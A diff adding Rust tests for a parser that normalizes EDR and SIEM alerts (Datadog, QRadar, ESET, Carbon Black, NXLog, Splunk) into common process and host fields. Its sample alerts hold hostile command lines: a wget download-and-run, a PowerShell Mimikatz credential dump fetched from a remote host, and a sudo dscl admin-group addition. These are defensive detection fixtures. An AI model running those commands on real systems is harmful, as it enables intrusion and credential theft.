@@ -6903,5 +6903,56 @@ mod tests {
             "payload": "type=EXECVE msg=audit(1.3:4): argc=3 a0=\"perl\" a1=\"-e\" a2=75736520536F636B65743B"}]});
         let a = from_json(qr, "x").unwrap();
         assert!(get(&a, "process.command_line").contains("/bin/sh -i"));
+        // Datadog's v2 signal: the agent's event under `custom.attributes`.
+        let dd = json!({"id": "AQ", "type": "signal", "attributes": {"timestamp": 1, "message": "m", "tags": [],
+            "custom": {"title": "t", "workflow": {"rule": {"name": "r"}}, "attributes": {"host": "web-1",
+                "process": {"executable": {"path": "/bin/dash"}, "args": ["-c", "wget -q http://1.2.3.4/x -O .c && ./.c"],
+                    "parent": {"executable": {"path": "/usr/sbin/php-fpm8.2"}}}}}}});
+        let a = from_json(dd, "x").unwrap();
+        assert!(get(&a, "process.command_line").contains("wget -q"));
+        assert_eq!(get(&a, "process.parent.executable"), "/usr/sbin/php-fpm8.2");
+        // QRadar rows with renamed columns (magnitude and credibility beside them), and a
+        // WinCollect line cut short losing to the parsed command line.
+        let qr = json!({"events": [{"event_name": "Process Create", "log_source": "Sysmon @ S1", "magnitude": 5, "credibility": 5,
+            "Process Name": "cscript.exe", "Parent Process Name": "cmd.exe",
+            "payload": "<13>Aug 19 03:00:14 S1 AgentDevice=WindowsLog\tSource=Microsoft-Windows-Sysmon\tEventID=1\tMessage=Process Create:  Image: C:\\Windows\\System32\\cscript.exe  CommandLine: cscript.exe //NoLogo a.vbs  ParentImage: C:\\Windows\\System32\\cmd.exe"}]});
+        let a = from_json(qr, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "cscript.exe //NoLogo a.vbs"
+        );
+        let qr = json!({"events": [{"qid": 1, "logsourcename(logsourceid)": "WindowsAuthServer @ PW-1", "EventID": "4688",
+            "Process Name": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "Process CommandLine": "powershell.exe -c \"IEX (iwr http://10.0.0.5/Invoke-Mimikatz.ps1); Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'\"",
+            "payload": "<13>Dec 08 13:32:10 PW-1 AgentDevice=WindowsLog\tAgentLogFile=Security\tSource=Microsoft-Windows-Security-Auditing\tEventID=4688\tMessage=A new process has been created. New Process Name: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe Process Command Line: powershell.exe -c \"IEX (iwr http://10.0.0.5/Invoke-Mimikatz.ps1); Invoke-Mimikatz ...\""}]});
+        let a = from_json(qr, "x").unwrap();
+        assert!(get(&a, "process.command_line").contains("sekurlsa::logonpasswords"));
+        // ESET PROTECT's HIPS event as LEEF: the application started its target.
+        let eset = json!({"message": "<14>1 2025-03-11T10:44:21Z eset-1 ERAServer 2144 - - LEEF:1.0|ESET|Protect|11.1|HipsAggregated_Event|cat=ESET HIPS\thostname=WKS-1.corp.example\taccountName=CORP\\\\pl\tapplication=C:\\\\Windows\\\\System32\\\\wscript.exe\toperation=Start new application\ttarget=C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\tprocess_commandline=C:\\\\Windows\\\\System32\\\\wscript.exe \"E:\\\\Invoice.js\""});
+        let a = from_json(eset, "x").unwrap();
+        assert!(get(&a, "process.executable").ends_with("powershell.exe"));
+        assert!(get(&a, "process.parent.command_line").contains("E:\\Invoice.js"));
+        assert_eq!(get(&a, "host.name"), "WKS-1.corp.example");
+        // Carbon Black EDR's CEF: the process in `msg` as key:value pairs; a whole path as `fname`.
+        let cb = json!({"msg": "CEF:0|Carbon Black|CB Response|7.8|reason=w|watchlist hit|10|dproc=bash fname=/bin/bash dhost=MBP-1 duser=mf msg=group:Macs process_name:bash cmdline:bash -c echo x | sudo -S dscl . -append /Groups/admin GroupMembership t parent_name:upd parent_path:/Users/Shared/.local/bin/upd username:mf watchlist_id:412"});
+        let a = from_json(cb, "x").unwrap();
+        assert_eq!(get(&a, "process.executable"), "/bin/bash");
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "bash -c echo x | sudo -S dscl . -append /Groups/admin GroupMembership t"
+        );
+        assert_eq!(
+            get(&a, "process.parent.executable"),
+            "/Users/Shared/.local/bin/upd"
+        );
+        // NXLog's `EventXML`, and Splunk's `_raw` XML beside its extractions: the event's data.
+        let xml = "<Event><System><EventID>4688</EventID><Channel>Security</Channel><Computer>FS-3</Computer></System><EventData><Data Name='NewProcessName'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='CommandLine'>cmd.exe /c whoami</Data><Data Name='ParentProcessName'>C:\\Windows\\PSEXESVC.exe</Data></EventData></Event>";
+        let nx = json!({"EventTime": "2025-07-22 03:47:33", "Hostname": "FS-3", "EventID": 4688, "SourceName": "Microsoft-Windows-Security-Auditing", "EventXML": xml});
+        let a = from_json(nx, "x").unwrap();
+        assert_eq!(get(&a, "process.command_line"), "cmd.exe /c whoami");
+        assert!(get(&a, "process.parent.executable").ends_with("PSEXESVC.exe"));
+        let sp = json!({"preview": false, "offset": 0, "result": {"_raw": xml, "host": "FS-3", "sourcetype": "XmlWinEventLog", "EventCode": "4688"}});
+        let a = from_json(sp, "x").unwrap();
+        assert_eq!(get(&a, "process.command_line"), "cmd.exe /c whoami");
     }
 }
